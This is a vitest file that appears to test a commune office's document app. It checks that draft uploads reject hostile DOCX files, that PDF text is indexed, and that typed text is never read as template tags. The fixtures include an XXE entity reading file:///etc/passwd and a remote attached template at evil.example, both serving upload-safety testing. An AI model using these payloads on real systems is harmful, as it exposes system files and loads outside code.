import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { composeDocument } from '#contract/composed-paper.ts';
import { downloadDocumentFile, uploadDocumentFile } from '#contract/document-act.ts';
import { draftDocument, getDocument, listDocuments } from '#contract/document.ts';
import { newId } from '#server/new-id.ts';
import { createTestApi, type Client, type TestApi } from '#tests/support/api.ts';
import { buildHostileFiles } from '#tests/support/bad-input/hostile-files.ts';
import { faultOfRefusal } from '#tests/support/bad-input/refusal.ts';
import { chairSigner, draftOf } from '#tests/support/documents.ts';
import { wordsOf } from '#tests/support/docx-words.ts';
import { pdfPage, textPage, withPassword } from '#tests/support/pdf-page.ts';
import { codeOf, expectOk } from '#tests/support/review-steps.ts';
import { zipOf } from '#tests/support/zip-of.ts';

let api: TestApi;
let officer: Client;
let communeId: string;

beforeAll(async () => {
  api = await createTestApi();
  officer = api.as({ role: 'ward_officer' });
  ({ communeId } = api.fixtures);
});
afterAll(() => api.close());

async function openDraft() {
  const draft = draftOf(communeId);
  expectOk(await officer.call(draftDocument, draft));
  return { communeId, documentId: draft.id };
}

const contentTypes =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const bodyOf = (inner: string, head = '') =>
  `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${inner}</w:t></w:r></w:p></w:body></w:document>`;

describe('a draft', () => {
  test('takes no hostile file, says why, and stays as it was', async () => {
    const one = await openDraft();
    const link =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>';
    const parts = { '[Content_Types].xml': contentTypes };
    const own = [
      {
        what: 'a template from elsewhere',
        bytes: await zipOf({
          ...parts,
          'word/document.xml': bodyOf('A'),
          'word/_rels/settings.xml.rels': link,
        }),
      },
      {
        what: 'an entity from elsewhere',
        bytes: await zipOf({
          ...parts,
          'word/document.xml': bodyOf(
            '&x;',
            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          ),
        }),
      },
      { what: 'more than 20 MB', bytes: Buffer.alloc(20 * 1024 * 1024 + 1, '%PDF-1.7\n') },
    ];
    const faults: string[] = [];
    for (const { what, bytes } of [...own, ...(await buildHostileFiles())]) {
      const answer = await officer.upload(
        uploadDocumentFile,
        { ...one, id: newId() },
        'van-ban.docx',
        bytes,
      );
      const fault = faultOfRefusal(answer);
      if (fault !== undefined) faults.push(`${what}: ${fault}`);
    }
    expect(faults).toEqual([]);
    expect(expectOk(await officer.call(getDocument, one))).toMatchObject({ files: [], version: 1 });
  });

  test('is found by the words of a PDF; a scan and a locked one are kept, and say so', async () => {
    const one = await openDraft();
    const states: (string | null)[] = [];
    for (const [name, bytes] of [
      ['cong-van.pdf', pdfPage(textPage('Danh sach zapphia kuvexo'))],
      ['ban-quet.pdf', pdfPage('0 0 100 100 re f')],
      ['co-mat-khau.pdf', pdfPage(textPage('Kin'), withPassword)],
    ] as const) {
      const file = { ...one, id: newId() };
      const kept = expectOk(await officer.upload(uploadDocumentFile, file, name, bytes));
      states.push(kept.textState);
    }
    expect(states).toEqual(['read', 'none', 'unreadable']);
    const find = { communeId, direction: 'outgoing', search: 'kuvexo zapphia' } as const;
    expect(expectOk(await officer.call(listDocuments, find)).items).toMatchObject([
      { id: one.documentId, fileCount: 3 },
    ]);
  });
});

test('what is typed into a paper is only ever text: no tag of the template, no mark-up', async () => {
  const typed = '{#căn cứ}{x}{/căn cứ} {{y}} {@raw} </w:t><w:br/> & < > "';
  const paper = { kind: 'notice', abstract: 'Thử', body: typed, signer: chairSigner } as const;
  const page = expectOk(await officer.call(composeDocument, { communeId, id: newId(), paper }));
  const file = { communeId, documentId: page.id, fileId: page.files[0]?.id ?? '' };
  const answer = await officer.call(downloadDocumentFile, file);
  expect(wordsOf(answer.payload)).toContain(typed);
  const huge = { ...paper, body: 'x'.repeat(200_001) };
  const refused = await officer.call(composeDocument, { communeId, id: newId(), paper: huge });
  expect(codeOf(refused)).toBe('request.invalid');
});
